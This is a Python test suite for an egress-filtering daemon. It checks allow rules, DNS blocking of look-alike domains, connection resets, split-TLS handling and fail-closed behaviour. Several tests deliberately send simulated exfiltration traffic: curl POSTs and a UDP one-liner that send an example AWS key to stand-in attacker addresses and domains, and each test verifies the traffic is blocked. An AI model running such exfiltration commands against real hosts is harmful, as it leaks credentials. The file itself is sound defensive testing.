"""Issue 2: flows through egressd, gateway and host mode, IPv4 and IPv6."""
import os
import signal
import subprocess

import pytest

import lab as L

AKIA = "AKIAIOSFODNN7EXAMPLE"


def fam_args(fam):
    return ["-6"] if fam == "6" else ["-4"]


def is_deny_to(dst, dport):
    return lambda e: e.get("event") == "deny" and e.get("dst") == dst and e.get("dport") == dport


@pytest.mark.parametrize("fam", ["4", "6"])
def test_https_allowed(anylab, fam):
    e = anylab.start_egressd()
    p = anylab.curl("https://updates.example.com/file", *fam_args(fam))
    assert p.returncode == 0, p.stderr
    assert p.stdout == L.site_body("updates")
    ev = e.wait_event(lambda x: x.get("event") == "allow" and x.get("dport") == 443,
                      what="allow event for updates.example.com:443")
    assert ev.get("name") == "updates.example.com"
    assert ev.get("name_source") == "sni"
    assert str(ev.get("rule", "")).endswith("lab.list:%d" % L.ALLOW_LINE["updates.example.com"])
    assert ev.get("proto") == "tcp"
    assert ":" in ev["dst"] if fam == "6" else "." in ev["dst"]
    anylab.assert_attacker_got_nothing()


@pytest.mark.parametrize("fam", ["4", "6"])
def test_http_allowed(anylab, fam):
    e = anylab.start_egressd()
    p = anylab.curl("http://updates.example.com/file", *fam_args(fam))
    assert p.returncode == 0, p.stderr
    assert p.stdout == L.site_body("updates")
    ev = e.wait_event(lambda x: x.get("event") == "allow" and x.get("dport") == 80,
                      what="allow event for updates.example.com:80")
    assert ev.get("name") == "updates.example.com"
    assert ev.get("name_source") == "http_host"
    anylab.assert_attacker_got_nothing()


def test_http_host_not_allowed_on_bound_address(gwlab):
    """Port 80 of an allowed name's address with a Host header naming another site."""
    e = gwlab.start_egressd()
    assert gwlab.dig("+short", "updates.example.com").stdout.split() == ["203.0.113.10"]
    p = gwlab.curl("http://updates.example.com/file", "-4", "-H", "Host: evil.attacker.example",
                   timeout=5)
    assert p.returncode != 0 and p.elapsed < 2, (p.returncode, p.elapsed, p.stdout)
    ev = e.wait_event(is_deny_to("203.0.113.10", 80), what="deny of the Host header")
    assert ev.get("reason") == "name_not_allowed"
    assert not [line for line in gwlab.nginx_access() if "evil.attacker.example" in line]


def test_nft_backend(gwlab):
    e = gwlab.write_conf()
    p = e.apply("nft")
    if p.returncode != 0:
        msg = (p.stdout + p.stderr).strip()
        low = msg.lower()
        if "queue" in low and ("kernel" in low or "support" in low):
            pytest.skip("nft backend unavailable on this kernel: " + msg)
        pytest.fail("egressd rules --backend nft --apply failed: " + msg)
    e.start(apply=False)
    p = gwlab.curl("https://updates.example.com/file")
    assert p.returncode == 0, p.stderr
    assert p.stdout == L.site_body("updates")


def test_auto_backend(gwlab):
    gwlab.start_egressd(backend="auto")
    p = gwlab.curl("https://updates.example.com/file")
    assert p.returncode == 0, p.stderr
    p = gwlab.curl("https://updates.examp1e.com/", "--resolve",
                   "updates.examp1e.com:443:203.0.113.66", timeout=5)
    assert p.returncode != 0 and p.elapsed < 2
    gwlab.assert_attacker_got_nothing()


@pytest.mark.parametrize("fam", ["4", "6"])
def test_denied_name_by_dns(anylab, fam):
    """The look-alike name is never resolved: the exfiltration fails at DNS, fast."""
    e = anylab.start_egressd()
    p = anylab.curl("https://updates.examp1e.com/upload", *fam_args(fam), "-d",
                    "key=" + AKIA, timeout=5)
    assert p.returncode != 0
    assert p.elapsed < 2, "curl took %.2fs to fail" % p.elapsed
    ev = e.wait_event(lambda x: x.get("event") == "dns_deny"
                      and x.get("qname", "").rstrip(".") == "updates.examp1e.com",
                      what="dns_deny for updates.examp1e.com")
    assert ev.get("qtype") in ("A", "AAAA", 1, 28)
    anylab.assert_attacker_got_nothing()


@pytest.mark.parametrize("fam", ["4", "6"])
def test_denied_connection_is_reset_fast(anylab, fam):
    """Straight to the attacker's address: reset at the SYN, logged, nothing received."""
    e = anylab.start_egressd()
    dst = L.ATTACKER6 if fam == "6" else L.ATTACKER4
    host = "[%s]" % dst if fam == "6" else dst
    p = anylab.curl("https://updates.examp1e.com/upload", "--resolve",
                    "updates.examp1e.com:443:%s" % host, "-d", "key=" + AKIA, timeout=5)
    assert p.returncode == 7, "expected a refused connection (RST), got %d: %s" % (
        p.returncode, p.stderr)
    assert p.elapsed < 2, "curl took %.2fs to fail" % p.elapsed
    ev = e.wait_event(is_deny_to(dst, 443), what="deny event for %s:443" % dst)
    assert ev.get("reason") == "ip_not_allowed"
    assert ev.get("proto") == "tcp"
    assert ev.get("enforced", True) is True
    assert ev.get("severity") in ("low", "medium", "high", "critical")
    rec = anylab.attacker_records()
    assert rec["connections"] == [], rec
    anylab.assert_attacker_got_nothing()


def test_plain_http_post_to_attacker_denied(anylab):
    e = anylab.start_egressd()
    p = anylab.curl("http://%s/collect" % L.ATTACKER4, "-d", "aws_access_key_id=" + AKIA,
                    timeout=5)
    assert p.returncode != 0 and p.elapsed < 2, (p.returncode, p.elapsed)
    ev = e.wait_event(is_deny_to(L.ATTACKER4, 80), what="deny of http POST to the attacker")
    assert ev.get("reason") in ("ip_not_allowed", "port_not_allowed")
    anylab.assert_attacker_got_nothing()


@pytest.mark.parametrize("pieces", [4, 6])
def test_split_hello_allowed(anylab, pieces):
    e = anylab.start_egressd()
    r = anylab.split_hello("updates.example.com", pieces=pieces)
    assert r["segments"] == pieces
    assert r["result"] == "ok", r
    assert r["body"] == L.site_body("updates")
    ev = e.wait_event(lambda x: x.get("event") == "allow" and x.get("dport") == 443,
                      what="allow event for the split hello")
    assert ev.get("name") == "updates.example.com" and ev.get("name_source") == "sni"
    anylab.assert_attacker_got_nothing()


@pytest.mark.parametrize("sni,reason", [("evil.attacker.example", "name_not_allowed"),
                                        ("updates.example.com", "sni_ip_mismatch")])
def test_split_hello_denied_by_sni(anylab, sni, reason):
    """unknown_ip = verify lets the SYN reach the attacker; the split SNI decides."""
    e = anylab.start_egressd(unknown_ip="verify")
    r = anylab.split_hello(sni, addr=L.ATTACKER4, pieces=5)
    assert r["segments"] == 5
    assert r["result"] == "reset", r
    assert r["elapsed"] < 2, r
    ev = e.wait_event(is_deny_to(L.ATTACKER4, 443), what="deny of the split hello")
    assert ev.get("reason") == reason
    assert ev.get("name") == sni
    rec = anylab.attacker_records()
    assert all(c["bytes"] == 0 for c in rec["connections"]), rec
    anylab.assert_attacker_got_nothing()


def test_static_range_without_dns(anylab):
    e = anylab.start_egressd()
    p = anylab.curl("https://203.0.113.20/file")
    assert p.returncode == 0, p.stderr
    assert p.stdout == L.site_body("static")
    ev = e.wait_event(lambda x: x.get("event") == "allow" and x.get("dst") == "203.0.113.20",
                      what="allow event for 203.0.113.20:443")
    assert str(ev.get("rule", "")).endswith("lab.list:%d" % L.ALLOW_LINE["203.0.113.20/32:443"])
    assert not [x for x in e.events() if x.get("event", "").startswith("dns")]
    # The range is for 443 only.
    p = anylab.curl("http://203.0.113.20/file", timeout=5)
    assert p.returncode != 0 and p.elapsed < 2
    anylab.assert_attacker_got_nothing()


def test_kill9_fails_closed_but_allowed_download_finishes(anylab):
    e = anylab.start_egressd()
    out = os.path.join(anylab.dir, "big.bin")
    dl = anylab.spawn(anylab.cli, ["curl", "-sS", "--noproxy", "*", "--cacert", anylab.ca["ca"],
                                   "--limit-rate", "256k", "--max-time", "15", "-o", out,
                                   "https://updates.example.com/big.bin"],
                      stderr=os.path.join(anylab.dir, "dl.stderr"))
    L.wait_for(lambda: os.path.exists(out) and os.path.getsize(out) > 0, 5,
               "the download to start")
    e.kill9()
    at_kill = os.path.getsize(out)
    assert at_kill < L.BIG_SIZE / 2, "download too fast to test (%d bytes)" % at_kill
    # A new flow to the same, allowed server fails: nothing decides it any more.
    p = anylab.curl("https://updates.example.com/file", "--resolve",
                    "updates.example.com:443:203.0.113.10", "--connect-timeout", "2", timeout=5)
    assert p.returncode != 0, "a new flow passed while egressd was dead"
    p = anylab.dig("+short", "mirror.example.net")
    assert "203.0.113.11" not in p.stdout
    # The already-allowed download completes.
    rc = dl.wait(15)
    assert rc == 0, open(os.path.join(anylab.dir, "dl.stderr")).read()
    with open(out, "rb") as f:
        assert f.read() == bytes(range(256)) * (L.BIG_SIZE // 256)
    # Restarting restores service.
    e.start()
    p = anylab.curl("https://updates.example.com/file")
    assert p.returncode == 0, p.stderr
    assert p.stdout == L.site_body("updates")
    anylab.assert_attacker_got_nothing()


def test_sigterm_keeps_rules_and_delete_removes_them(anylab):
    e = anylab.start_egressd()
    assert anylab.curl("https://updates.example.com/file").returncode == 0
    assert e.stop(signal.SIGTERM) == 0
    tables = anylab.ns_run(anylab.fw, ["nft", "list", "tables"]).stdout
    assert "table inet egressd" in tables
    p = anylab.curl("https://updates.example.com/file", "--resolve",
                    "updates.example.com:443:203.0.113.10", "--connect-timeout", "2", timeout=5)
    assert p.returncode != 0, "fail closed: a new flow passed after SIGTERM"
    p = e.delete()
    assert p.returncode == 0, p.stderr
    tables = anylab.ns_run(anylab.fw, ["nft", "list", "tables"]).stdout
    assert "egressd" not in tables
    # Without the ruleset nothing filters any more.
    p = anylab.curl("https://updates.example.com/file", "--resolve",
                    "updates.example.com:443:203.0.113.10")
    assert p.returncode == 0, p.stderr


def test_audit_mode_logs_but_does_not_deny(gwlab):
    e = gwlab.start_egressd(enforce=False)
    p = gwlab.curl("http://%s/collect" % L.ATTACKER4, "-d", "x=1", timeout=5)
    assert p.returncode == 0, p.stderr
    ev = e.wait_event(is_deny_to(L.ATTACKER4, 80), what="audit deny event")
    assert ev.get("enforced") is False


@pytest.mark.parametrize("fam", ["4", "6"])
def test_udp_to_attacker_dropped(anylab, fam):
    """QUIC-looking UDP to the attacker (quic policy = deny): nothing arrives, logged."""
    e = anylab.start_egressd()
    dst = L.ATTACKER6 if fam == "6" else L.ATTACKER4
    code = ("import socket,sys; f=socket.AF_INET6 if ':' in sys.argv[1] else socket.AF_INET; "
            "s=socket.socket(f,socket.SOCK_DGRAM); "
            "[s.sendto(bytes([0xc3,0,0,0,1])+b'AKIAIOSFODNN7EXAMPLE'*40,(sys.argv[1],443)) "
            "for _ in range(3)]")
    p = anylab.ns_run(anylab.cli, [L.PY, "-c", code, dst])
    assert p.returncode == 0, p.stderr
    ev = e.wait_event(lambda x: x.get("event") == "deny" and x.get("dst") == dst
                      and x.get("proto") == "udp", what="deny of UDP 443 to the attacker")
    assert ev.get("dport") == 443
    anylab.assert_attacker_got_nothing()
